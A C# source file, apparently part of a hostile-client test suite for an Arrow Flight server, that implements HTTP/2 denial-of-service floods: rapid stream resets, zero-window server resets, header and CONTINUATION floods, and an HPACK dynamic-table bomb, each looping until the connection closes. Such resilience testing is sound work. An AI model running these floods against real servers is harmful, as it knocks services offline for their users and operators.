using System;
using System.IO;
using System.Threading;
using System.Threading.Tasks;

namespace ColumnStream.Testing.Hostile;

/// <summary>Opens calls that cost the server more than their client: resets, headers without end, tables that grow.</summary>
internal static class StreamFloods
{
    public const string Service = "/arrow.flight.protocol.FlightService/";
    private const int Burst = 100;

    /// <summary>Opens calls and breaks them off in the same breath.</summary>
    public static async Task RapidResetAsync(HostileTarget target, Action<int> counted, CancellationToken cancellation)
    {
        using HostilePeer peer = await HostilePeer.GreetAsync(target, cancellation);
        byte[] block = Http2Frame.Call(Service + "GetFlightInfo", target.Token);
        while (!peer.IsClosed)
        {
            using var burst = new MemoryStream();
            for (int i = 0; i < Burst; i++)
            {
                int stream = peer.NextStream();
                burst.Write(Http2Frame.Make(Http2Frame.Headers, Http2Frame.EndHeaders, stream, block));
                burst.Write(Http2Frame.Cancel(stream));
            }

            await peer.SendAsync(burst.ToArray(), cancellation);
            counted(Burst);
        }
    }

    /// <summary>Opens calls and makes the server break them off, by a window that grows by nothing.</summary>
    public static async Task ServerResetAsync(HostileTarget target, Action<int> counted, CancellationToken cancellation)
    {
        using HostilePeer peer = await HostilePeer.GreetAsync(target, cancellation);
        byte[] block = Http2Frame.Call(Service + "GetFlightInfo", target.Token);
        while (!peer.IsClosed)
        {
            using var burst = new MemoryStream();
            for (int i = 0; i < Burst; i++)
            {
                int stream = peer.NextStream();
                burst.Write(Http2Frame.Make(Http2Frame.Headers, Http2Frame.EndHeaders, stream, block));
                burst.Write(Http2Frame.Window(stream, 0));
            }

            await peer.SendAsync(burst.ToArray(), cancellation);
            counted(Burst);
        }
    }

    /// <summary>Sends as many headers as fit in a frame with every call, and many calls.</summary>
    public static async Task HeaderFloodAsync(HostileTarget target, Action<int> counted, CancellationToken cancellation)
    {
        using HostilePeer peer = await HostilePeer.GreetAsync(target, cancellation);
        using var many = new MemoryStream();
        many.Write(Http2Frame.Call(Service + "GetFlightInfo", null));
        for (int i = 0; many.Length < 16_000; i++)
        {
            many.Write([0, 6, .. System.Text.Encoding.ASCII.GetBytes($"x-{i:D4}"), 1, (byte)'y']);
        }

        while (!peer.IsClosed)
        {
            await peer.OpenAsync(many.ToArray(), cancellation);
            counted(1);
        }
    }

    /// <summary>Begins one header block and never ends it.</summary>
    public static async Task ContinuationFloodAsync(HostileTarget target, Action<int> counted, CancellationToken cancellation)
    {
        using HostilePeer peer = await HostilePeer.GreetAsync(target, cancellation);
        int stream = peer.NextStream();
        await peer.SendAsync(
            Http2Frame.Make(Http2Frame.Headers, 0, stream, Http2Frame.Call(Service + "DoGet", null)), cancellation);
        byte[] field = [0, 1, (byte)'x', 1, (byte)'y'];
        byte[] frame = Http2Frame.Make(Http2Frame.Continuation, 0, stream, field);
        await RepeatAsync(peer, frame, counted, cancellation);
    }

    /// <summary>Begins one header block and goes on with nothing.</summary>
    public static async Task EmptyContinuationsAsync(HostileTarget target, Action<int> counted, CancellationToken cancellation)
    {
        using HostilePeer peer = await HostilePeer.GreetAsync(target, cancellation);
        int stream = peer.NextStream();
        await peer.SendAsync(
            Http2Frame.Make(Http2Frame.Headers, 0, stream, Http2Frame.Call(Service + "DoGet", null)), cancellation);
        await RepeatAsync(peer, Http2Frame.Make(Http2Frame.Continuation, 0, stream, default), counted, cancellation);
    }

    /// <summary>Puts a long header into the connection's table and repeats it by one byte, thousands of times a call.</summary>
    public static async Task HeaderTableBombAsync(HostileTarget target, Action<int> counted, CancellationToken cancellation)
    {
        using HostilePeer peer = await HostilePeer.GreetAsync(target, cancellation);
        byte[] first = [.. Http2Frame.Call(Service + "DoGet", null), .. Http2Frame.Indexed("x-bomb", new string('b', 3900))];
        await peer.OpenAsync(first, cancellation);
        var repeats = new byte[12_000];
        // The newest entry of the dynamic table.
        Array.Fill(repeats, (byte)(0x80 | 62));
        byte[] block = [.. Http2Frame.Call(Service + "DoGet", null), .. repeats];
        while (!peer.IsClosed)
        {
            await peer.OpenAsync(block, cancellation);
            counted(1);
        }
    }

    /// <summary>Sends one frame again and again, many at a time.</summary>
    public static async Task RepeatAsync(
        HostilePeer peer, ReadOnlyMemory<byte> frame, Action<int> counted, CancellationToken cancellation)
    {
        var burst = new byte[frame.Length * Burst];
        for (int i = 0; i < Burst; i++)
        {
            frame.CopyTo(burst.AsMemory(i * frame.Length));
        }

        while (!peer.IsClosed)
        {
            await peer.SendAsync(burst, cancellation);
            counted(Burst);
        }
    }
}
